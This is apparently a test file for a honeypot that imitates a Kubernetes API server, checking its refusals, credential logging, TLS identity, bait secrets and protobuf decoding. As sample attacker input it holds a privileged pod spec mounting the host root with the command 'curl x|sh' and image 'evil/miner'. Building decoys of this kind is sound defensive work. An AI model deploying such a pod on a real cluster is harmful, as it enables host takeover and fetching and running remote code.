import {X509Certificate} from 'node:crypto'
import {connect} from 'node:tls'
import {describe, expect, it} from 'vitest'

import {Persona} from '../../../../src/decoy/persona.ts'
import type {Service} from '../../../../src/decoy/service.ts'
import {decodeProtobuf} from '../../../../src/decoy/services/k8s/protobuf.ts'
import {humanDuration} from '../../../../src/decoy/services/k8s/tables.ts'
import {tlsIdentity} from '../../../../src/decoy/tls/certificate.ts'
import {kubernetesAuthority} from '../../../../src/decoy/tls/kubernetes-authority.ts'
import {eventually, type Served, serve} from '../../../support/serve.ts'
import {headerNames, headerOf} from '../http/support.ts'
import {ask, bodyOf, clusterWith, FACTS, jsonOf, statusOf} from './support.ts'

const TABLE = {headers: ['Accept: application/json;as=Table;v=v1;g=meta.k8s.io,application/json']}

interface List {
  readonly kind: string
  readonly items: readonly {
    readonly metadata: {readonly name: string; readonly namespace?: string}
    readonly data?: Record<string, string>
  }[]
}

describe('who has no credentials', () => {
  it('is refused in the words and the headers of a real server', async () => {
    // As scanners print it of servers of 1.2x: the same in every cluster, 185 octets long.
    const refused = ask(await clusterWith(), 'GET /')
    expect(bodyOf(refused)).toBe(
      '{"kind":"Status","apiVersion":"v1","metadata":{},"status":"Failure","message":"forbidden: User \\"system:anonymous\\" cannot get path \\"/\\"","reason":"Forbidden","details":{},"code":403}\n',
    )
    expect(headerOf(refused, 'Content-Length')).toBe('185')
    expect(headerNames(refused)).toEqual([
      'Audit-Id',
      'Cache-Control',
      'Content-Type',
      'X-Content-Type-Options',
      'X-Kubernetes-Pf-Flowschema-Uid',
      'X-Kubernetes-Pf-Prioritylevel-Uid',
      'Date',
      'Content-Length',
    ])
    expect(headerOf(ask(await clusterWith(), 'GET /nice%20ports%2C/Tri%6Eity.txt%2ebak'), 'Content-Length')).toBe('212')
  })

  it('gets lines where a person asks', async () => {
    const refused = ask(await clusterWith(), 'GET /', {headers: ['User-Agent: curl/7.88.1']})
    expect(headerOf(refused, 'Content-Length')).toBe('217')
    expect(bodyOf(refused)).toMatch(/^\{\n {2}"kind": "Status",\n[\s\S]*"code": 403\n\}$/)
  })

  it.each([
    [
      'GET /api/v1/pods',
      'pods is forbidden: User "system:anonymous" cannot list resource "pods" in API group "" at the cluster scope',
    ],
    [
      'GET /api/v1/namespaces/a/secrets/b',
      'secrets "b" is forbidden: User "system:anonymous" cannot get resource "secrets" in API group "" in the namespace "a"',
    ],
    [
      'POST /apis/apps/v1/namespaces/a/deployments',
      'deployments.apps is forbidden: User "system:anonymous" cannot create resource "deployments" in API group "apps" in the namespace "a"',
    ],
    [
      'DELETE /api/v1/namespaces/a',
      'namespaces "a" is forbidden: User "system:anonymous" cannot delete resource "namespaces" in API group "" in the namespace "a"',
    ],
    [
      'GET /api/v1/pods?watch=true',
      'pods is forbidden: User "system:anonymous" cannot watch resource "pods" in API group "" at the cluster scope',
    ],
    [
      'POST /api/v1/namespaces/a/pods/b/exec?command=id',
      'pods "b" is forbidden: User "system:anonymous" cannot create resource "pods/exec" in API group "" in the namespace "a"',
    ],
    ['GET /apis', 'forbidden: User "system:anonymous" cannot get path "/apis"'],
    ['POST /version', 'forbidden: User "system:anonymous" cannot post path "/version"'],
  ])('%s', async (line, message) => {
    const refused = ask(await clusterWith(), line)
    expect(statusOf(refused)).toBe(403)
    expect(jsonOf(refused).message).toBe(message)
  })

  it('may know the version, whether it is well, and how to join', async () => {
    const service = await clusterWith({version: '1.26.3'})
    expect(jsonOf(ask(service, 'GET /version'))).toMatchObject({gitVersion: 'v1.26.3', goVersion: 'go1.19.7'})
    for (const path of ['/healthz', '/livez', '/readyz']) expect(bodyOf(ask(service, `GET ${path}`))).toBe('ok')
    const joining = jsonOf<{data: {kubeconfig: string}}>(
      ask(service, 'GET /api/v1/namespaces/kube-public/configmaps/cluster-info'),
    )
    expect(joining.data.kubeconfig).toContain(`server: https://${FACTS.ip}:6443`)
  })
})

describe('credentials', () => {
  it('of nobody are refused without a word of what for, and recorded', async () => {
    const refused = ask(await clusterWith(), 'GET /api', {headers: ['Authorization: Bearer eyJ.abc']})
    expect(statusOf(refused)).toBe(401)
    expect(headerOf(refused, 'Content-Length')).toBe('129')
    expect(headerNames(refused)).toEqual(['Audit-Id', 'Cache-Control', 'Content-Type', 'Date', 'Content-Length'])
    expect(refused.events.find(({event}) => event === 'auth.attempt')?.credential).toMatchObject({
      method: 'bearer',
      secret: {text: 'eyJ.abc'},
      outcome: 'failure',
    })
  })

  it('of the fleet file let their owner in', async () => {
    const service = await clusterWith({users: ['ci-admin:s3cret.tok']})
    const let_in = ask(service, 'GET /api/v1/namespaces', {headers: ['Authorization: Bearer s3cret.tok']})
    expect(jsonOf<List>(let_in).items.map(({metadata}) => metadata.name)).toContain('kube-system')
    expect(let_in.events.find(({event}) => event === 'auth.attempt')?.credential).toMatchObject({
      principal: 'ci-admin',
      outcome: 'success',
    })
  })

  describe('on the wire', () => {
    const talk = (served: Served, options: {cert?: string; key?: string}): Promise<{reply: string; names: string}> =>
      new Promise((resolve, reject) => {
        let reply = ''
        let names = ''
        const socket = connect({host: '127.0.0.1', port: served.port, rejectUnauthorized: false, ...options}, () => {
          names = socket.getPeerX509Certificate()?.subjectAltName ?? ''
          socket.write('GET /api HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n')
        })
        socket.on('data', (chunk) => {
          reply += chunk.toString('latin1')
        })
        socket.on('error', reject)
        socket.on('close', () => resolve({reply, names}))
      })

    it('the certificate is an API server’s, and a client’s is recorded and worth nothing', {
      timeout: 30_000,
    }, async () => {
      const served = await serve(await clusterWith(), {port: 6443})
      const {certificate, key} = tlsIdentity(new Persona({...FACTS, seed: '77'.repeat(32)}), 'docker', Date.now())
      try {
        const without = await talk(served, {})
        expect(without.names).toContain(
          'DNS:kubernetes.default.svc.cluster.local, IP Address:10.96.0.1, IP Address:192.168.1.31',
        )
        expect(without.reply).toMatch(/^HTTP\/1\.1 403 Forbidden/)
        expect((await talk(served, {cert: certificate, key})).reply).toMatch(/^HTTP\/1\.1 401 Unauthorized/)
        const attempt = await eventually(() => served.named('auth.attempt')[0])
        expect(attempt.credential).toMatchObject({
          method: 'certificate',
          principal: 'BER-K8S01.corp.example',
          outcome: 'failure',
        })
      } finally {
        await served.close()
      }
    })

    it('the authority that clients are told of signed the server’s certificate', {timeout: 30_000}, () => {
      const persona = new Persona(FACTS)
      const authority = new X509Certificate(kubernetesAuthority(persona))
      const [server = ''] = tlsIdentity(persona, 'kubernetes', Date.now()).certificate.split(
        /(?<=-----END CERTIFICATE-----\n)/,
      )
      expect(new X509Certificate(server).verify(authority.publicKey)).toBe(true)
      expect(authority.ca).toBe(true)
    })
  })
})

describe('an administrator', () => {
  const open = (): Promise<Service> => clusterWith({anonymous: true})

  it('finds what discovery documents of that release say', async () => {
    const service = await open()
    const {resources} = jsonOf<{resources: Record<string, unknown>[]}>(ask(service, 'GET /api/v1'))
    expect(resources.find(({name}) => name === 'pods')).toEqual({
      name: 'pods',
      singularName: '',
      namespaced: true,
      kind: 'Pod',
      verbs: ['create', 'delete', 'deletecollection', 'get', 'list', 'patch', 'update', 'watch'],
      shortNames: ['po'],
      categories: ['all'],
      storageVersionHash: 'xPOwRZ+Yhw8=',
    })
    expect(resources.find(({name}) => name === 'persistentvolumes')?.storageVersionHash).toBe('HN/zwEC+JgM=')
    expect(jsonOf<{groups: {name: string}[]}>(ask(service, 'GET /apis')).groups.map(({name}) => name)).toContain('apps')
    expect(jsonOf(ask(service, 'GET /apis/batch')).kind).toBe('APIGroup')
    expect(bodyOf(ask(service, 'GET /apis/nope'))).toBe('404 page not found\n')
    expect(jsonOf(ask(service, 'GET /apis/nope/v1/things')).message).toBe(
      'the server could not find the requested resource',
    )
  })

  it('reads bait, which is recorded', async () => {
    const service = await open()
    const list = ask(service, 'GET /api/v1/secrets')
    const [secret] = jsonOf<List>(list).items.filter(({metadata}) => metadata.name === 'db-credentials')
    expect(Buffer.from(secret?.data?.password ?? '', 'base64').toString()).toMatch(/^\w+!$/)
    expect(list.events.find(({event}) => event === 'file.read')?.data?.objects).toContain(
      `${secret?.metadata.namespace}/db-credentials`,
    )
    expect(jsonOf(ask(service, 'GET /api/v1/namespaces/default/secrets/nope')).message).toBe('secrets "nope" not found')
  })

  it('gets tables as kubectl asks for them', async () => {
    const table = jsonOf<{columnDefinitions: {name: string}[]; rows: {cells: unknown[]}[]}>(
      ask(await open(), 'GET /api/v1/nodes', TABLE),
    )
    expect(table.columnDefinitions.slice(0, 5).map(({name}) => name)).toEqual([
      'Name',
      'Status',
      'Roles',
      'Age',
      'Version',
    ])
    expect(table.rows[0]?.cells.slice(0, 3)).toEqual(['ber-k8s01', 'Ready', 'control-plane'])
  })

  it('makes a pod, which is an attack step, stays, and is gone again', async () => {
    const service = await open()
    const spec = {
      containers: [
        {name: 'x', image: 'evil/miner', command: ['sh', '-c', 'curl x|sh'], securityContext: {privileged: true}},
      ],
      volumes: [{name: 'host', hostPath: {path: '/'}}],
    }
    const made = ask(service, 'POST /api/v1/namespaces/default/pods', {
      body: {kind: 'Pod', apiVersion: 'v1', metadata: {name: 'x'}, spec},
    })
    expect(statusOf(made)).toBe(201)
    expect(made.events.find(({event}) => event === 'command')?.data).toMatchObject({
      action: 'pods.create',
      containers: [{image: 'evil/miner', command: [{text: 'sh'}, {text: '-c'}, {text: 'curl x|sh'}]}],
      hostPaths: ['/'],
      dangerous: true,
    })
    expect(jsonOf<{status: {phase: string}}>(ask(service, 'GET /api/v1/namespaces/default/pods/x')).status.phase).toBe(
      'Pending',
    )
    expect(statusOf(ask(service, 'POST /api/v1/namespaces/default/pods', {body: {metadata: {name: 'x'}, spec}}))).toBe(
      409,
    )
    const exec = ask(service, 'POST /api/v1/namespaces/default/pods/x/exec?command=id')
    expect(jsonOf(exec).message).toMatch(/^error dialing backend: dial tcp .*:10250: connect: connection refused$/)
    expect(exec.events.find(({event}) => event === 'command')?.data).toMatchObject({
      action: 'pods/exec.create',
      command: [{text: 'id'}],
    })
    expect(jsonOf(ask(service, 'DELETE /api/v1/namespaces/default/pods/x')).status).toBe('Success')
    expect(statusOf(ask(service, 'GET /api/v1/namespaces/default/pods/x'))).toBe(404)
  })

  it('forgets the oldest of what was made', async () => {
    const service = await open()
    for (let made = 0; made < 50; made++) {
      ask(service, 'POST /api/v1/namespaces/default/configmaps', {body: {metadata: {name: `c${made}`}, data: {a: 'b'}}})
    }
    const names = jsonOf<List>(ask(service, 'GET /api/v1/namespaces/default/configmaps')).items.map(
      ({metadata}) => metadata.name,
    )
    expect(names).toHaveLength(33)
    expect(names).toContain('c49')
    expect(names).toContain('kube-root-ca.crt')
  })

  it('is told that it may do everything, however it asks', async () => {
    const service = await open()
    const path = 'POST /apis/authorization.k8s.io/v1/selfsubjectaccessreviews'
    const spec = {resourceAttributes: {verb: 'create', resource: 'pods'}}
    const asked = ask(service, path, {
      body: {kind: 'SelfSubjectAccessReview', apiVersion: 'authorization.k8s.io/v1', spec},
    })
    expect(jsonOf<{status: {allowed: boolean}}>(asked).status.allowed).toBe(true)
  })

  it('needs no TLS on the insecure port', async () => {
    const service = await clusterWith({insecure: true})
    expect(statusOf(ask(service, 'GET /api/v1/pods', {port: 8080}))).toBe(200)
    expect(statusOf(ask(service, 'GET /api/v1/pods'))).toBe(403)
    const moved = await clusterWith({insecure: true, insecure_port: 8001})
    expect(moved.tcp?.(8001)).not.toHaveProperty('tls')
    expect(moved.tcp?.(6443)).toHaveProperty('tls')
  })
})

describe('two clusters', () => {
  it('share neither ids nor secrets, and one keeps its own', async () => {
    const seen = async (seed: string): Promise<string> => {
      const service = await clusterWith({anonymous: true}, {seed: seed.repeat(32), hostname: `H${seed}`})
      return ['/api/v1/secrets', '/api/v1/pods', '/api/v1/namespaces']
        .map((path) => bodyOf(ask(service, `GET ${path}`)))
        .join('')
    }
    const ids = (text: string): Set<string> =>
      new Set(text.match(/[0-9a-f]{8}-(?:[0-9a-f]{4}-){3}[0-9a-f]{12}|"(?:password|secret_key)":"[^"]+"/g))
    const [one, other, again] = [ids(await seen('1a')), ids(await seen('2b')), ids(await seen('1a'))]
    expect([...one].filter((id) => other.has(id))).toEqual([])
    expect(again).toEqual(one)
    expect(one.size).toBeGreaterThan(15)
  })
})

describe('protocol buffers', () => {
  const field = (number: number, value: Buffer | string): Buffer => {
    const bytes = Buffer.from(value)
    return Buffer.concat([Buffer.from([(number << 3) | 2, bytes.length]), bytes])
  }
  const pod = Buffer.concat([
    Buffer.from('6b387300', 'hex'),
    field(1, Buffer.concat([field(1, 'v1'), field(2, 'Pod')])),
    field(
      2,
      Buffer.concat([
        field(1, field(1, 'x')),
        field(
          2,
          Buffer.concat([
            field(1, Buffer.concat([field(1, 'h'), field(2, field(1, field(1, '/')))])),
            field(
              2,
              Buffer.concat([
                field(1, 'c'),
                field(2, 'evil'),
                field(3, 'sh'),
                field(3, '-c'),
                field(15, Buffer.from([0x10, 1])),
              ]),
            ),
            Buffer.from([(12 << 3) | 0, 1]),
          ]),
        ),
      ]),
    ),
  ])

  it('are read as far as somebody wants to know', () => {
    expect(decodeProtobuf(pod)).toMatchObject({
      kind: 'Pod',
      metadata: {name: 'x'},
      spec: {
        hostPID: true,
        volumes: [{name: 'h', hostPath: {path: '/'}}],
        containers: [{name: 'c', image: 'evil', command: ['sh', '-c'], securityContext: {privileged: true}}],
      },
    })
  })

  it('that are none, or cut anywhere, are no objects and no errors', () => {
    expect(decodeProtobuf(Buffer.from('{}'))).toBeNull()
    for (let size = 0; size < pod.length; size++) expect(() => decodeProtobuf(pod.subarray(0, size))).not.toThrow()
  })
})

it.each([
  [5, '5s'],
  [119, '119s'],
  [185, '3m5s'],
  [3600, '60m'],
  [4 * 3600 + 300, '4h5m'],
  [30 * 3600, '30h'],
  [3 * 86_400 + 7200, '3d2h'],
  [100 * 86_400, '100d'],
  [800 * 86_400, '2y70d'],
])('%i seconds are shown as %s', (seconds, text) => {
  expect(humanDuration(seconds)).toBe(text)
})
